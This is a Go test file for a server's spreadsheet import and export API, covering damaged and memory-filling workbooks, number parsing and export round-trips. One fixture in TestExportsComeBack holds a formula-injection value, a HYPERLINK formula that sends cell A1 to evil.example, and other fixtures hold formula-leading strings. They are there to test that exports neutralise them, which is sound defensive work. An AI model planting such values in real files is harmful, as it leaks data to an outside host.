package server_test

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"runtime"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// bring sends a workbook to an import.
func (f *fixture) bring(query string, file []byte) response {
	f.t.Helper()
	req, err := http.NewRequest("POST", f.url+"/api/imports?"+query, bytes.NewReader(file)) // no row: what is binary has no {names}
	if err != nil {
		f.t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
	req.Header.Set("Authorization", "Bearer "+f.one.master)
	return f.send(req)
}

// bookOf is a workbook whose first sheet has n rows below its titles.
func bookOf(t *testing.T, n int) []byte {
	t.Helper()
	book := excelize.NewFile()
	defer book.Close()
	w, err := book.NewStreamWriter("Sheet1")
	if err != nil {
		t.Fatal(err)
	}
	err = w.SetRow("A1", []any{"Kod", "Ünvan"})
	for i := range n {
		if err == nil {
			err = w.SetRow(fmt.Sprintf("A%d", i+2), []any{fmt.Sprintf("S%d", i), fmt.Sprintf("Firma %d", i*7919)})
		}
	}
	var b bytes.Buffer
	if err != nil || w.Flush() != nil || book.Write(&b) != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// altered is a workbook in whose sheet one text is put for another.
func altered(t *testing.T, book []byte, was, is string) []byte {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(book), int64(len(book)))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	to := zip.NewWriter(&out)
	for _, part := range z.File {
		r, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		method := zip.Store
		if strings.HasSuffix(part.Name, "sheet1.xml") {
			method = zip.Deflate
			text = bytes.Replace(text, []byte(was), []byte(is), 1)
		}
		w, err := to.CreateHeader(&zip.FileHeader{Name: part.Name, Method: method})
		if err == nil {
			_, err = w.Write(text)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := to.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// TestImportsOfBadWorkbooks holds that nothing of a damaged workbook is taken, that
// one made to fill the memory does not, and that an error of a formula is no text.
func TestImportsOfBadWorkbooks(t *testing.T) {
	f := start(t)
	f.as = "one"
	whole := bookOf(t, 500)
	random := bytes.Clone(whole)
	copy(random[len(random)*6/10:], "twenty random bytes!")
	refused := "The file is not taken: "
	for _, row := range []struct {
		name string
		file []byte
		says string
	}{
		{"random bytes", random, refused},
		{"cut off", whole[:len(whole)*8/10], refused},
		{"cut off within", altered(t, whole, "</sheetData>", "<row"), refused + `its part \"xl/worksheets/sheet1.xml\" is damaged at row 501`},
		{"signs within", altered(t, whole, "Firma 7919<", "<<<"), "is damaged at row 3"},
		{"an entity", altered(t, whole, "Firma 7919<", "a&nbsp;b<"), "is damaged at row 3"},
		{"11 MB of rows", altered(t, whole, "<sheetData>", "<sheetData>"+strings.Repeat("<row></row>", 1<<20)), "packed more than 200 to 1"},
		{"a large cell", altered(t, whole, "Firma 0<", strings.Repeat("x", 3<<20)+"<"), "packed more than 200 to 1"},
	} {
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		res := f.bring("resource=companies", row.file)
		runtime.ReadMemStats(&after)
		if res.status != 400 || !strings.Contains(string(res.body), row.says) || !strings.Contains(string(res.body), "file_invalid") {
			t.Errorf("%s: %d %s", row.name, res.status, res.body)
		}
		if used := (after.TotalAlloc - before.TotalAlloc) >> 20; used > 24 {
			t.Errorf("%s: a file of %d KB takes %d MB", row.name, len(row.file)>>10, used)
		}
	}
	for says, cell := range map[string]string{
		"name must be a value, and its cell has the error #REF!":                     `<c r="B3" t="e"><v>#REF!</v></c>`,
		"name must be a text or a number, and its cell has TRUE":                     `<c r="B3" t="b"><v>1</v></c>`,
		"name must be a value, and its cell has a formula that was never worked out": `<c r="B3"><f>A1</f></c>`,
	} {
		res := f.bring("resource=companies", altered(t, whole, `<c r="B3" t="inlineStr"><is><t>Firma 7919</t></is></c>`, cell))
		if res.status != 422 || !strings.Contains(string(res.body), says) || !strings.Contains(string(res.body), "rows[3].name") {
			t.Errorf("%s: %d %s", cell, res.status, res.body)
		}
	}
	if n := f.count("/api/companies"); n != 0 {
		t.Errorf("%d companies are there", n)
	}
	if res := f.bring("resource=companies", whole); res.status != 200 || member(res.body, "created") != 500.0 {
		t.Errorf("the file itself: %d %s", res.status, res.body)
	}
}

// TestNumbersOfWorkbooks holds that texts that look like numbers are read as the file's
// other ones, and what is stored as a number as it is.
func TestNumbersOfWorkbooks(t *testing.T) {
	t.Parallel()
	f := start(t)
	f.as = "one"
	with := func(price any) []byte {
		book := excelize.NewFile()
		defer book.Close()
		var b bytes.Buffer
		for cell, v := range map[string]any{"A1": "Kod", "B1": "Ad", "C1": "Fiyat", "A2": "X1", "B2": "Kürsü", "C2": "1.234", "A3": "X2", "B3": "Sıra", "C3": price} {
			if err := book.SetCellValue("Sheet1", cell, v); err != nil {
				t.Fatal(err)
			}
		}
		if err := book.Write(&b); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}
	for _, row := range []struct {
		other any
		says  string
	}{{"12,50", `"salePrice":"1234.00"`}, {"12.50", `"salePrice":"1.234"`}} {
		if res := f.bring("resource=products", with(row.other)); res.status != 200 {
			t.Errorf("beside %v: %d %s", row.other, res.status, res.body)
		}
		if res := f.ask("GET /api/products?q=X1", "", ""); !bytes.Contains(res.body, []byte(row.says)) {
			t.Errorf("beside %v it is %s", row.other, res.body)
		}
	}
	res := f.bring("resource=products", with(2.345)) // which says of texts nothing
	if res.status != 422 || res.part("errors[0].code") != "decimal_doubtful" || res.part("errors[0].field") != "rows[2].salePrice" || member(res.body, "errors[1]") != nil {
		t.Errorf("beside a number: %d %s", res.status, res.body)
	}
}

// TestExportsComeBack brings the files of exports back: nothing changes; and into
// another account, where the records become the same.
func TestExportsComeBack(t *testing.T) {
	f := start(t)
	f.fillExport()
	company := f.made("/api/companies", `{"name":"-1+1;=2","code":"B2","notes":"a'=b","phone":"+90-212","country":"TR","paymentTermDays":30,"riskLimit":"234.5","metadata":{"a":"x,=y"}}`)
	f.made("/api/companies", `{"name":"a;\"=HYPERLINK(\"http://evil.example/?\"&A1);b","code":"C2","notes":"'=x","website":"a;\u00a0=1"}`)
	f.made("/api/products", `{"name":"@Kalem","code":"P1","vatRate":"10","salePrice":"1249.5","prices":[{"currency":"USD","salePrice":"30"}],"criticalStock":"2.5"}`)
	for _, name := range []string{"Ayşe", "Ali"} { // who share a mailbox
		f.made("/api/contacts", fmt.Sprintf(`{"companyId":%q,"firstName":%q,"email":"a@b.co"}`, company, name))
	}
	f.made("/api/contacts", fmt.Sprintf(`{"companyId":%q,"firstName":"Can"}`, company))
	for _, resource := range []string{"companies", "products", "contacts"} {
		was := f.ask("GET /api/"+resource+"/export?format=ndjson", "", "").body
		rows := bytes.Count(was, []byte("\n"))
		for _, format := range []string{"csv", "csv&excel=tr", "xlsx"} {
			f.as = "one"
			file := f.ask("GET /api/"+resource+"/export?format="+format, "", "").body
			headers := asCSV
			if format == "xlsx" {
				headers = "Content-Type: application/octet-stream"
			}
			res := f.ask("POST /api/imports?resource="+resource, string(file), headers)
			if format == "csv" && bytes.Contains(file, []byte(`;""=`)) {
				t.Errorf("a formula behind a semicolon: %s", file)
			}
			if res.status != 200 || member(res.body, "unchanged") != float64(rows) || rows == 0 {
				t.Errorf("%s as %s: %d %s\n%.300q", resource, format, res.status, res.body, file)
			}
		}
		if is := f.ask("GET /api/"+resource+"/export?format=ndjson", "", "").body; !bytes.Equal(was, is) {
			t.Errorf("%s\n%s", was, is)
		}
	}
	file := f.ask("GET /api/companies/export", "", "").body
	names := func() (all []string) {
		var page struct{ Data []map[string]any }
		if err := json.Unmarshal(f.ask("GET /api/companies?sort=code", "", "").body, &page); err != nil {
			t.Fatal(err)
		}
		for _, r := range page.Data {
			if r["code"] != "X1" {
				all = append(all, fmt.Sprint(r["code"], r["name"], r["notes"], r["phone"], r["metadata"], r["riskLimit"], r["type"]))
			}
		}
		return all
	}
	want := names()
	f.as = "two"
	f.row(row{"", "POST /api/imports?resource=companies", string(file), asCSV, 200, "", []string{"created = 4"}})
	if got := names(); fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("%q, want %q", got, want)
	}
}
